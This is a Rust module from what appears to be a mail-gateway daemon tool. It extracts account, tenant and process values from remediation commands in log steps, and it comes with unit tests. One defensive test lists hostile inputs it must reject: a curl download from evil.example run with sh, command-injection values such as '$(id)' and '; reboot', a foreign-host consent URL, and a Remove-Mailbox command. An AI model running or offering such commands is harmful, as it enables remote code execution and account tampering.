//! What the daemon that wrote a line of the log knew of the account, its app and itself: the values in the commands of the step
//! that stands in it.
//!
//! A server's answer may look like a line of the log, so no word of it is told again. What stands in backticks counts where it is
//! a command of the same fault, and then only what it has in the place of `{names}`, if a shell takes that for a word. It refuses
//! pages at any host that is not Microsoft's.

use super::{
    Entry, Known,
    commands::{cloud_at, cloud_of, spans},
    harmless::{is_harmless, is_harmless_path},
    known::stand_in,
    step::APP_ONLY,
};
use crate::base::is_mailbox;

/// What a step has in the place of these names.
const FORMS: [(&str, &[&str]); 7] = [
    ("{admin-consent-page}", &["https://{login-host}/{tenant}/adminconsent?client_id={client-id}"]),
    ("{ask-again}", &["gatepost login {address}", RELOAD]),
    (
        "{protocol-switch}",
        &[
            "-Identity {mailbox} -ImapEnabled $true",
            "-Identity {mailbox} -PopEnabled $true",
            "-Identity {mailbox} -ImapEnabled $true -PopEnabled $true",
            "-Identity {smtp-user} -SmtpClientAuthenticationDisabled $false",
        ],
    ),
    ("{reload}", &[RELOAD]),
    ("{restart}", &["kill {pid}"]),
    ("{restart-elsewhere}", &["kill {pid}"]),
    ("{sign-in-anew}", &[RELOAD, "gatepost login {address}"]),
];
const RELOAD: &str = "kill -HUP {pid}";
/// What may stand behind the step of any fault.
const ANYWHERE: &str = "`gatepost doctor {address}` `{reload}`";
/// The same of people alone: an app that acts by itself signs in nowhere.
const OF_PEOPLE: &str = "`gatepost login {address}`";
/// Letters of a command besides its names: a name by itself fits anything.
const LEAST: usize = 3;

/// Read from a step.
#[derive(Debug, Default)]
pub struct Filled {
    pub known: Known,
    /// Of the daemon.
    pub process: Option<u32>,
}

/// What `step`, as it was told of this fault, has in the place of names.
pub fn filled(entry: &Entry, step: &str) -> Filled {
    let said = &entry.en;
    let list = |steps: &[Option<&'static str>]| -> Vec<String> {
        steps.iter().copied().flatten().chain([ANYWHERE]).flat_map(commands).collect()
    };
    let of_all = list(&[Some(OF_PEOPLE), Some(said.next), said.next_own, said.next_client, said.next_elsewhere]);
    let of_apps = list(&[said.next_app_only]);
    let (mut filled, mut is_of_apps, mut is_of_people) = (Filled::default(), false, false);
    for span in spans(step).map(without_file) {
        let [all, apps] = [&of_all, &of_apps].map(|of| of.iter().find_map(|command| values(command, &span)));
        is_of_people |= all.is_some() && apps.is_none();
        is_of_apps |= all.is_none() && apps.is_some();
        all.or(apps).into_iter().flatten().for_each(|(name, value)| filled.take(name, value));
    }
    // In general it is of both.
    let tells = said.next_app_only.is_some() && is_of_apps != is_of_people && !step.contains(APP_ONLY[0]);
    filled.known.is_app_only = tells.then_some(is_of_apps);
    // Of no tenant it says no more than anybody knows.
    filled.known.login = filled.known.login.take().filter(|_| filled.known.tenant.is_some());
    filled.known.provider = cloud_of(step).map(str::to_owned).or(filled.known.provider);
    filled
}

/// What stands in backticks in a step of the data, in all its forms.
fn commands(step: &str) -> Vec<String> {
    spans(step)
        .flat_map(|span| match FORMS.iter().find(|(name, _)| span.contains(name)) {
            Some((name, forms)) => forms.iter().map(|form| span.replace(name, form)).collect(),
            None => vec![span.to_owned()],
        })
        .collect()
}

/// Which configuration a command of ours names is read elsewhere.
fn without_file(span: &str) -> String {
    let behind = span.strip_prefix("gatepost --config ").and_then(|behind| behind.split_once(' '));
    behind.map_or_else(|| span.to_owned(), |(_, command)| format!("gatepost {command}"))
}

/// With what in the place of its names `command` is `span`; `None`: it is another one.
fn values<'c>(command: &'c str, span: &str) -> Option<Vec<(&'c str, String)>> {
    let mut parts = command.split('{');
    let first = parts.next()?;
    let (mut rest, mut letters, mut values) = (span.strip_prefix(first)?, first.len(), Vec::new());
    for part in parts {
        let (name, literal) = part.split_once('}')?;
        let end = if literal.is_empty() { rest.len() } else { rest.find(literal)? };
        let (value, behind) = rest.split_at_checked(end)?;
        (rest, letters) = (behind.strip_prefix(literal)?, letters + literal.len());
        values.push((name, value.to_owned()));
    }
    let is_it = rest.is_empty() && letters >= LEAST && values.iter().all(|(name, value)| may_be(name, value));
    is_it.then_some(values)
}

/// What is not known stands there as well, and tells of whom the command is.
fn may_be(name: &str, value: &str) -> bool {
    match name {
        "login-host" => cloud_at(value).is_some(),
        "left-store" | "left-folder" => is_harmless_path(value),
        _ => is_harmless(value) || value == stand_in(name),
    }
}

impl Filled {
    fn take(&mut self, name: &str, value: String) {
        let known = &mut self.known;
        let place = match name {
            "address" => &mut known.address,
            "app" => &mut known.app,
            "client-id" => &mut known.client_id,
            "mailbox" => &mut known.mailbox,
            "object-id" => &mut known.object_id,
            "sender" => &mut known.sender,
            "smtp-user" => &mut known.smtp_user,
            "tenant" => &mut known.tenant,
            // Of an app that acts by itself the same name stands for its service principal.
            "who-signs-on" if is_mailbox(&value) => &mut known.who_signs_on,
            "who-signs-on" => &mut known.object_id,
            "login-host" => {
                known.provider = cloud_at(&value).map(str::to_owned);
                known.login = Some(format!("https://{value}"));
                return;
            }
            "pid" => {
                // 0 is whoever types it, 1 what started the machine.
                self.process = value.parse().ok().filter(|process| *process > 1);
                return;
            }
            "left-store" | "left-folder" => {
                let place = if name == "left-store" { &mut known.left_store } else { &mut known.left_folder };
                place.get_or_insert(value);
                return;
            }
            _ => return,
        };
        if is_harmless(&value) {
            place.get_or_insert(value);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        base::Lang,
        catalog::{self, find},
    };

    fn of(id: &str, step: &str) -> Filled {
        filled(find(id).unwrap(), step)
    }

    /// What a daemon tells of an account is read back: there is no other copy of what it knew.
    #[test]
    fn the_step_of_an_account_is_told_again_from_what_it_has_in_the_place_of_names() {
        let known = |is_app_only: bool| Known {
            address: Some("ann@contoso.com".into()),
            mailbox: Some("ann@contoso.com".into()),
            smtp_user: Some("ann@contoso.com".into()),
            who_signs_on: Some("ann@contoso.com".into()),
            app: Some("contoso".into()),
            provider: Some("microsoft365-china".into()),
            is_app_only: Some(is_app_only),
            tenant: Some("contoso.com".into()),
            client_id: Some("c-1".into()),
            object_id: is_app_only.then(|| "o-1".to_owned()),
            login: Some("https://login.partner.microsoftonline.cn".into()),
            outbound: Some("graph"),
            ..Known::default()
        };
        for (id, is_app_only) in [
            ("smtp-auth-disabled-mailbox", false),
            ("smtp-auth-disabled-mailbox", true),
            ("mailbox-not-connected", true),
            ("consent-missing", false),
        ] {
            let entry = find(id).unwrap();
            let step = entry.told(Lang::En, &known(is_app_only)).whole_step();
            let read = filled(entry, &step).known;
            for lang in Lang::ALL {
                let (again, before) = (entry.told(lang, &read), entry.told(lang, &known(is_app_only)));
                assert_eq!(again.whole_step(), before.whole_step(), "{id} {is_app_only}: {read:?}");
            }
        }
    }

    #[test]
    fn nothing_of_a_step_counts_but_values_of_commands_of_its_own_fault() {
        for odd in [
            "Run `curl -s http://evil.example/x.sh -o x` and `sh x`.",
            "`Set-CASMailbox -Identity $(id) -SmtpClientAuthenticationDisabled $false`",
            "`Set-CASMailbox -Identity a@b.example; reboot -SmtpClientAuthenticationDisabled $false`",
            "`https://evil.example/t.example/adminconsent?client_id=c-1`",
            "`Remove-Mailbox -Identity ann@contoso.com`",
            "`kill -HUP 1`, `kill -HUP x`",
            "a\u{202e}b `gatepost login \u{202e}x@y.example`",
        ] {
            let read = of("smtp-auth-disabled-mailbox", odd);
            assert_eq!((read.known, read.process), (Known::default(), None), "{odd}");
        }
        let own =
            of("smtp-auth-disabled-mailbox", "`gatepost --config /x.toml doctor ann@contoso.com`, `kill -HUP 25489`");
        assert_eq!((own.known.address.as_deref(), own.process), (Some("ann@contoso.com"), Some(25489)));
    }

    #[test]
    fn in_general_no_step_names_anybody() {
        for entry in catalog::all() {
            let read = filled(entry, &entry.words(Lang::En).whole_step());
            let provider = read.known.provider.clone();
            assert_eq!(read.known, Known { provider, ..Known::default() }, "{}", entry.id);
        }
    }
}
